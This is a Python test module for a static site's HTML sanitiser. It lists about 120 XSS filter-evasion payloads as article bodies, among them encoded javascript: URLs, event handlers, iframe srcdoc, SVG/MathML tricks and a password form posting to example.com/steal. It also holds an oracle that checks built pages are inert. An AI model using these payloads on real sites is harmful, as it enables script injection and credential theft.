"""Hostile article bodies, and the check that nothing in built HTML could run.

ATTACKS is data: (name, Markdown body) pairs, each a complete body an editor could commit
(no header), after the OWASP XSS filter evasion cheat sheet and what Markdown's `extra`
adds (attribute lists, reference links).  They refer to files only through `ATTACK_IMAGE`,
a photo the unit's folder must hold, and link only to `https://example.com/`; the few
whose harmless leftover is a relative reference (`ｊavascript:…`, a tab turned into
spaces) are refused by a real build's index scan as missing files, the editor's error.

`assert_no_active_content` is the oracle: it knows nothing of domain/html_cleaning and
reads the HTML with two parsers (lxml and Python's html.parser, through BeautifulSoup) and
as raw text.  Fragments (article bodies, feed item content) must hold only the article
allowlist; whole pages (`page=True`) may hold the theme's chrome too, never anything that
runs, loads a frame, submits, redirects to a script or restyles the page.
"""

from __future__ import annotations

import json
import re
import warnings

from bs4 import BeautifulSoup, MarkupResemblesLocatorWarning

ATTACK_IMAGE = "images/anh.jpg"

ATTACKS: list[tuple[str, str]] = [
    # --- Scripts and their disguises
    ("script", "<script>alert('XSS')</script>"),
    ("script-external-src", "<SCRIPT SRC=https://example.com/xss.js></SCRIPT>"),
    ("script-slash-attribute", '<SCRIPT/XSS SRC="https://example.com/xss.js"></SCRIPT>'),
    ("script-protocol-relative", "<SCRIPT SRC=//example.com/.j>"),
    ("script-extra-open-brackets", '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'),
    ("script-no-closing-tag", "<SCRIPT SRC=https://example.com/xss.js?< B >"),
    ("script-split-by-script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-after-end-title", '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'),
    ("script-in-paragraph", "Đoạn văn <script>alert(1)</script> tiếp tục."),
    ("script-fullwidth-lookalike", "＜script＞alert(1)＜/script＞"),
    # --- Images with handlers and script URLs
    ("img-onerror", f'<img src="{ATTACK_IMAGE}" onerror="alert(1)">'),
    ("img-onerror-no-quotes", f"<IMG SRC={ATTACK_IMAGE} onerror=alert(1)>"),
    ("img-onerror-spaced", f'<img src="{ATTACK_IMAGE}" alt="a" onerror = "alert(1)">'),
    ("img-onmouseover-hash-src", "<IMG SRC=# onmouseover=\"alert('xxs')\">"),
    ("img-onmouseover-empty-src", "<IMG SRC= onmouseover=\"alert('xxs')\">"),
    ("img-onmouseover-no-src", "<IMG onmouseover=\"alert('xxs')\">"),
    ("img-javascript-src", "<IMG SRC=\"javascript:alert('XSS');\">"),
    ("img-javascript-no-quotes", "<IMG SRC=javascript:alert('XSS')>"),
    ("img-javascript-mixed-case", "<IMG SRC=JaVaScRiPt:alert('XSS')>"),
    ("img-grave-accents", "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>"),
    ("img-fromcharcode", "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>"),
    ("img-malformed-quotes", '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>'),
    ("img-decimal-entities",
     "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;"
     "&#40;&#39;&#88;&#83;&#83;&#39;&#41;>"),
    ("img-padded-decimal-no-semicolons",
     "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116"
     "&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000039&#0000041>"),
    ("img-hex-no-semicolons",
     "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28"
     "&#x27&#x58&#x53&#x53&#x27&#x29>"),
    ("img-literal-tab-in-scheme", "<IMG SRC=\"jav\tascript:alert('XSS');\">"),
    ("img-encoded-tab-in-scheme", "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">"),
    ("img-encoded-newline-in-scheme", "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">"),
    ("img-encoded-cr-in-scheme", "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">"),
    ("img-leading-space-and-control", "<IMG SRC=\" &#14;  javascript:alert('XSS');\">"),
    ("img-vbscript", "<IMG SRC='vbscript:msgbox(\"XSS\")'>"),
    ("img-dynsrc-lowsrc", "<IMG DYNSRC=\"javascript:alert('XSS')\"><IMG LOWSRC=\"javascript:alert('XSS')\">"),
    ("img-style-expression", "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">"),
    ("img-srcset-javascript",
     f'<img src="{ATTACK_IMAGE}" srcset="javascript:alert(1) 1x, {ATTACK_IMAGE} 2x">'),
    ("img-half-open-tag", "<IMG SRC=\"`<javascript:alert>`('XSS')\""),
    ("input-image", "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">"),
    # --- Links
    ("a-onmouseover", '<a onmouseover="alert(document.cookie)">xxs link</a>'),
    ("a-javascript", '<a href="javascript:alert(1)">bấm</a>'),
    ("a-leading-spaces", '<p><a href="  javascript:alert(1)">bấm</a></p>'),
    ("a-leading-control-entities", '<a href="&#1;&#2;javascript:alert(1)">bấm</a>'),
    ("a-named-colon-entity", '<a href="javascript&colon;alert(1)">bấm</a>'),
    ("a-decimal-colon-entity", '<a href="javascript&#58;alert(1)">bấm</a>'),
    ("a-hex-first-letter", '<a href="&#x6A;avascript:alert(1)">bấm</a>'),
    ("a-newline-in-scheme", '<a href="java\nscript:alert(1)">bấm</a>'),
    ("a-data-html", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">bấm</a>'),
    ("a-file-url", '<a href="file:///etc/passwd">tệp</a>'),
    ("a-target-blank", '<a href="https://example.com/" target="_blank">trang khác</a>'),
    ("a-ping", '<a href="https://example.com/" ping="https://example.com/track">trang khác</a>'),
    ("a-style-overlay",
     '<a href="https://example.com/" style="position:fixed;top:0;left:0;width:100%;height:100%">bấm</a>'),
    ("markdown-link-javascript", "[bấm vào đây](javascript:alert(1))"),
    ("markdown-link-javascript-mixed-case", "[bấm vào đây](JaVaScRiPt:alert(1))"),
    ("markdown-link-encoded-tab", "[bấm vào đây](java&#x09;script:alert(1))"),
    ("markdown-link-vbscript", "[bấm vào đây](vbscript:msgbox(1))"),
    ("markdown-link-data", "[bấm vào đây](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("markdown-link-fullwidth-lookalike", "[bấm vào đây](ｊavascript:alert(1))"),
    ("markdown-link-title-breakout", '[bấm](https://example.com/ "a\\" onmouseover=\\"alert(1)")'),
    ("markdown-image-javascript", "![ảnh](javascript:alert(1))"),
    ("markdown-image-data-svg", "![ảnh](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("markdown-image-alt-breakout", f'![x" onerror="alert(1)]({ATTACK_IMAGE})'),
    ("autolink-javascript", "<javascript:alert(1)>"),
    ("autolink-quote-breakout", '<https://example.com/"onmouseover="alert(1)>'),
    ("reference-definition-javascript", "[bấm vào đây][1]\n\n[1]: javascript:alert(1)"),
    ("reference-definition-with-title", '[bấm][a]\n\n[a]: JAVASCRIPT:alert(1) "Tiêu đề"'),
    ("reference-image-data", "![ảnh][b]\n\n[b]: data:image/png;base64,iVBORw0KGgo="),
    # --- Attribute lists (extra's attr_list)
    ("attr-list-paragraph-onmouseover", 'Đoạn văn bình thường.\n{: onmouseover="alert(1)" }'),
    ("attr-list-link-onclick", '[bấm vào đây](https://example.com/){: onclick="alert(1)" }'),
    ("attr-list-image-onerror", f'![ảnh]({ATTACK_IMAGE}){{: onerror="alert(1)" onload="alert(2)" }}'),
    ("attr-list-heading-style", '## Tiêu đề {: style="color:red;font-size:90px" }'),
    ("attr-list-link-target", '[trang khác](https://example.com/){: target="_blank" }'),
    ("attr-list-id-main-content", "Đoạn văn.\n{: #main-content }"),
    # --- Embedding, frames, foreign content
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-other-host", '<iframe src="https://example.com/embed" width="560" height="315"></iframe>'),
    ("iframe-unclosed", "<iframe src=https://example.com/scriptlet.html <"),
    ("iframe-youtube-lookalike-host",
     '<iframe src="https://www.youtube.com.example.com/embed/dQw4w9WgXcQ"></iframe>'),
    ("iframe-youtube-bad-id",
     '<iframe src="https://www.youtube.com/embed/dQw4w9&quot;onload=alert(1)"></iframe>'),
    ("iframe-youtube-with-handler",
     '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" onload="alert(1)"></iframe>'),
    ("iframe-facebook-bad-href",
     '<iframe src="https://www.facebook.com/plugins/video.php?href=javascript%3Aalert(1)"></iframe>'),
    ("frameset", "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>"),
    ("object-data", '<object data="javascript:alert(1)"></object>'),
    ("object-scriptlet",
     '<OBJECT TYPE="text/x-scriptlet" DATA="https://example.com/scriptlet.html"></OBJECT>'),
    ("embed-svg-data",
     '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIi'
     'B4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs'
     'aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAwIiBpZD0ieHNzIj48c2NyaXB0IHR5c'
     'GU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlhTUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml">'),
    ("svg-onload", "<svg/onload=alert('XSS')>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-xlink-href",
     '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>'),
    ("math-href", '<math href="javascript:alert(1)">CLICKME</math>'),
    ("math-mglyph-style-mxss",
     f"<math><mtext><table><mglyph><style><img src={ATTACK_IMAGE} onerror=alert(1)>"),
    ("video-source-onerror", '<video><source onerror="alert(1)"></video>'),
    ("audio-onerror", f"<audio src={ATTACK_IMAGE} onerror=alert(1)>"),
    # --- Page takeover: meta, base, link, style, forms
    ("meta-refresh-javascript", "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">"),
    ("meta-refresh-data",
     '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">'),
    ("base-href", "<BASE HREF=\"javascript:alert('XSS');//\">"),
    ("base-target", '<base target="_blank">'),
    ("link-stylesheet", '<LINK REL="stylesheet" HREF="https://example.com/xss.css">'),
    ("style-covering-page",
     '<style>body{display:none} main:after{content:"Trang đã bị tấn công"}</style>'),
    ("style-import", "<style>@import 'https://example.com/x.css';</style>"),
    ("style-list-image",
     "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>"),
    ("div-style-overlay",
     '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">Trang giả mạo</div>'),
    ("div-background-image-url", "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>"),
    ("body-onload-odd-name", "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>"),
    ("body-background", "<BODY BACKGROUND=\"javascript:alert('XSS')\">"),
    ("table-background",
     "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">x"
                         "</TD></TABLE>"),
    ("form-action", '<form action="https://example.com/steal"><input name="password" type="password">'
                    "<button>Gửi</button></form>"),
    ("button-formaction", '<form><button formaction="javascript:alert(1)">X</button></form>'),
    ("select-autofocus-onfocus", "<select autofocus onfocus=alert(1)><option>a</option></select>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>chạy chữ</marquee>"),
    ("custom-element-onclick", "<x-widget onclick=alert(1)>tùy biến</x-widget>"),
    # --- Raw-text and inert containers
    ("noscript-breakout",
     f'<noscript><p title="</noscript><img src={ATTACK_IMAGE} onerror=alert(1)>"></noscript>'),
    ("template", f"<template><img src={ATTACK_IMAGE} onerror=alert(1)></template>"),
    ("xmp", "<xmp><script>alert(1)</script></xmp>"),
    ("plaintext", "<plaintext><script>alert(1)</script>"),
    ("textarea", "<textarea><script>alert(1)</script></textarea>"),
    ("title", "<title><script>alert(1)</script></title>"),
    # --- Comments
    ("conditional-comment", "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->"),
    ("comment-breakout", "<!-- --><script>alert(1)</script> -->"),
    ("comment-opened-in-attribute", f'<img src="{ATTACK_IMAGE}" alt="<!--"><script>alert(1)</script>-->'),
    ("downlevel-revealed-conditional", "<![if !IE]><script>alert(1)</script><![endif]>"),
    # --- Structure, clobbering, markup inside Markdown
    ("unclosed-nested-tags", '<a href="https://example.com/">mở <b>đậm <i>nghiêng'),
    ("stray-end-tags", "</div></main></body><p>thoát khung</p>"),
    ("id-main-content", '<p id="main-content">đè id của trang</p>'),
    ("li-id-main-content", '<ul><li id="main-content">đè id của trang</li></ul>'),
    ("dom-clobbering-name",
     f'<img name="getElementById" src="{ATTACK_IMAGE}"><form name="body"></form>'
     '<a id="defaultView" name="cookie" href="https://example.com/">x</a>'),
    ("data-attributes", '<p data-bind="alert(1)" data-x="y">dữ liệu</p>'),
    ("md-in-html-div", f'<div markdown="1">\n**đậm** <img src={ATTACK_IMAGE} onerror=alert(1)>\n</div>'),
    ("code-fence-script", "```html\n<script>alert(1)</script>\n```"),
    ("inline-code-img", f"Mã `<img src={ATTACK_IMAGE} onerror=alert(1)>` trong dòng."),
    ("indented-code-iframe", "    <iframe src=\"javascript:alert(1)\"></iframe>"),
]


# --- The oracle ----------------------------------------------------------------------------------

# What an article body may contain (fragment mode).  h1 is not here: a body's h1 becomes h2.
ARTICLE_TAGS = frozenset({
    "p", "br", "hr", "h2", "h3", "h4", "h5", "h6", "strong", "em", "b", "i", "u", "s", "sub", "sup", "mark",
    "small", "blockquote", "ul", "ol", "li", "dl", "dt", "dd", "a", "img", "figure", "figcaption", "table",
    "thead", "tbody", "tfoot", "tr", "th", "td", "caption", "pre", "code", "abbr", "div", "span",
    "picture",  # the image pipeline's (plugins/images): its <source> elements are checked apart (_PICTURE_SOURCE)
})
ARTICLE_ATTRIBUTES = {
    "a": {"href", "title", "class"},
    "img": {"src", "alt", "title", "width", "height", "srcset", "sizes", "loading", "decoding", "fetchpriority"},
    "picture": set(),
    "th": {"colspan", "rowspan", "scope", "class"}, "td": {"colspan", "rowspan", "class"}, "abbr": {"title"},
    "ol": {"start"}, "li": {"id"}, "sup": {"id"}, "div": {"class"}, "pre": {"class"}, "span": {"class"},
}
# What a whole page may add around its articles (the theme's chrome, redirect pages).
PAGE_TAGS = ARTICLE_TAGS | {"html", "head", "body", "title", "meta", "link", "header", "nav", "main",
                            "footer", "section", "article", "aside", "time", "h1", "label"}
LINK_SCHEMES = {"http", "https", "mailto", "tel"}
IMAGE_SCHEMES = {"http", "https"}
URL_ATTRIBUTES = {"href", "src", "srcset", "action", "formaction", "poster", "data", "background", "cite",
                  "longdesc", "lowsrc", "dynsrc", "xlink:href", "ping", "manifest", "codebase", "icon"}
NEVER_TAGS = ("script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math",
              "base", "form", "input", "button", "select", "textarea", "template", "noscript", "xmp",
              "plaintext", "portal", "video", "audio", "source")
_RAW_NEVER = re.compile(rf"<\s*/?\s*(?:{'|'.join(NEVER_TAGS)})\b", re.IGNORECASE)
_RAW_PAGE_ONLY = re.compile(r"<\s*/?\s*(?:html|head|body|title|meta|link)\b", re.IGNORECASE)
_THEME_SCRIPT = re.compile(r'<script src="[^"<>]*/theme/js/[a-z0-9-]+\.js" defer></script>')
_FOOTNOTE_ID = re.compile(r"fn(?:ref\d*)?:\S+")
_TRIMMED = "".join(chr(code) for code in range(0x21))
_SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.\-]*):")
_REFRESH_URL = re.compile(r"url\s*=\s*['\"]?([^'\"]*)", re.IGNORECASE)


def url_scheme(value: str) -> str | None:
    """The scheme a browser sees in a decoded URL attribute (None: relative)."""
    url = re.sub("[\t\n\r]", "", value.strip(_TRIMMED))
    match = _SCHEME.match(url)
    return match[1].lower() if match else None


# The only <source> and <script> a page may hold: the image pipeline's sources inside a <picture>
# (AVIF or WebP candidates, never a `src`), and the JSON-LD data block in a page's <head> (its JSON
# escapes every `<`, so nothing can close it early).  Both are taken out before the checks below,
# after their own check, so that any other <source> or <script> still fails.
# (feedparser's sanitiser, which the feed checks read through, drops `sizes` and closes void tags)
_PICTURE_SOURCE = re.compile(r'<source type="image/(?:avif|webp)" srcset="[^"<>]*"(?: sizes="[^"<>]*")? ?/?>(?=<source |<img )')
_JSON_LD = re.compile(r'<script type="application/ld\+json">([^<]*)</script>')
# The theme's scripts, exactly as its templates write them (trang.js; the search page's tim-kiem.js):
# nothing from content.
_THEME_SCRIPT = re.compile(r'<script src="[^"<>\s]*/theme/js/(?:trang|tim-kiem)\.js" defer></script>')
# The share box's read-only address field (macros.html share_box), exactly as the theme writes it.
_THEME_ADDRESS = re.compile(r'<input id="dia-chi-bai" type="text" value="[^"<>]*" readonly data-share-address>')


def _without_pipeline_markup(html: str, page: bool) -> str:
    html = _PICTURE_SOURCE.sub("", html)
    if page:
        head, cut, body = html.partition("</head>")  # the theme's own deferred scripts, in the head only
        html = _THEME_SCRIPT.sub("", head) + cut + body
        for block in _JSON_LD.findall(html):
            assert json.loads(block)["@context"] == "https://schema.org"
        html = _JSON_LD.sub("", html)
        html = _THEME_ADDRESS.sub("", _THEME_SCRIPT.sub("", html))
    return html


_SEARCH_FORM = re.compile(r'<form id="tim-kiem"[^>]*>(.*?)</form>', re.DOTALL)
_SEARCH_MORE = re.compile(r'<button type="button" id="them" class="search-more" hidden>[^<>]*</button>')
SEARCH_FORM_TAGS = {"p", "label", "input", "button", "fieldset", "legend", "select", "option"}


def without_search_form(html: str) -> str:
    """The search page (plugins/search) without its own form and "more" button, which the theme writes:
    checked here to hold only form controls and text, then removed for assert_no_active_content."""
    form = _SEARCH_FORM.search(html)
    assert form is not None and len(_SEARCH_FORM.findall(html)) == 1 and len(_SEARCH_MORE.findall(html)) == 1
    inner = BeautifulSoup(form[1], "html.parser")
    assert {element.name for element in inner.find_all(True)} <= SEARCH_FORM_TAGS
    assert all(not name.startswith("on") for element in inner.find_all(True) for name in element.attrs)
    return _SEARCH_MORE.sub("", _SEARCH_FORM.sub("", html))


def assert_no_active_content(html: str, *, page: bool = False) -> None:
    """Fail unless `html` is inert: only allowed tags and attributes, no handler, no inline
    style, every URL of an allowed scheme once decoded, no theme id taken.

    page=False (article bodies, summaries, feed item content): the article allowlist.
    page=True (built pages): the theme's chrome too, ids unique, meta refresh to http(s) only.
    """
    html = _without_pipeline_markup(html, page)
    for raw in (_RAW_NEVER,) if page else (_RAW_NEVER, _RAW_PAGE_ONLY):
        found = raw.search(html)
        assert found is None, f"forbidden tag in raw markup: {found[0]!r}"
    for parser in ("lxml", "html.parser"):
        with warnings.catch_warnings():  # a fragment that is only a URL is still a fragment
            warnings.simplefilter("ignore", MarkupResemblesLocatorWarning)
            soup = BeautifulSoup(html, parser)
        # lxml wraps a fragment in <html><body>; the raw check above shows the fragment had none.
        root = soup.body if not page and parser == "lxml" and soup.body is not None else soup
        ids: set[str] = set()
        for element in root.find_all(True):
            attributes = {name.lower(): value for name, value in element.attrs.items()}
            _check_element(element.name.lower(), attributes, page, ids, parser)


def _check_element(tag: str, attributes: dict, page: bool, ids: set[str], parser: str) -> None:
    where = f"<{tag}> ({parser})"
    assert tag in (PAGE_TAGS if page else ARTICLE_TAGS), f"tag not allowed: {where}"
    for name, value in attributes.items():
        text = " ".join(value) if isinstance(value, list) else str(value)
        assert not name.startswith("on"), f"event handler {name} on {where}"
        assert name not in ("style", "srcdoc", "target", "formaction"), f"{name} on {where}"
        assert name != "name" or tag == "meta", f"name={text!r} on {where} (DOM clobbering)"
        if not page:
            assert name in ARTICLE_ATTRIBUTES.get(tag, set()), f"attribute not allowed: {name} on {where}"
        if name == "id":
            assert page or _FOOTNOTE_ID.fullmatch(text), f"id {text!r} on {where} could take a theme id"
            assert text not in ids, f"duplicate id {text!r}"
            ids.add(text)
        if name in URL_ATTRIBUTES:
            urls = [text]
            if name == "srcset":
                urls = [candidate.split()[0] for candidate in text.split(",") if candidate.strip()]
            allowed = IMAGE_SCHEMES if name in ("src", "srcset") else LINK_SCHEMES
            for url in urls:
                scheme = url_scheme(url)
                assert scheme is None or scheme in allowed, f"{name}={url!r} on {where}"
    if tag == "meta":
        equiv = str(attributes.get("http-equiv", "")).lower()
        assert equiv in ("", "refresh", "content-security-policy"), f"meta http-equiv={equiv!r}"
        if equiv == "refresh":
            target = _REFRESH_URL.search(str(attributes.get("content", "")))
            assert target is None or url_scheme(target[1]) in (None, "http", "https"), "meta refresh target"
    if tag == "link":
        rel = attributes.get("rel", [])
        rels = set(rel if isinstance(rel, list) else str(rel).split())
        assert rels <= {"stylesheet", "alternate", "canonical", "icon", "apple-touch-icon", "manifest", "preload"}, f"link rel={rels}"
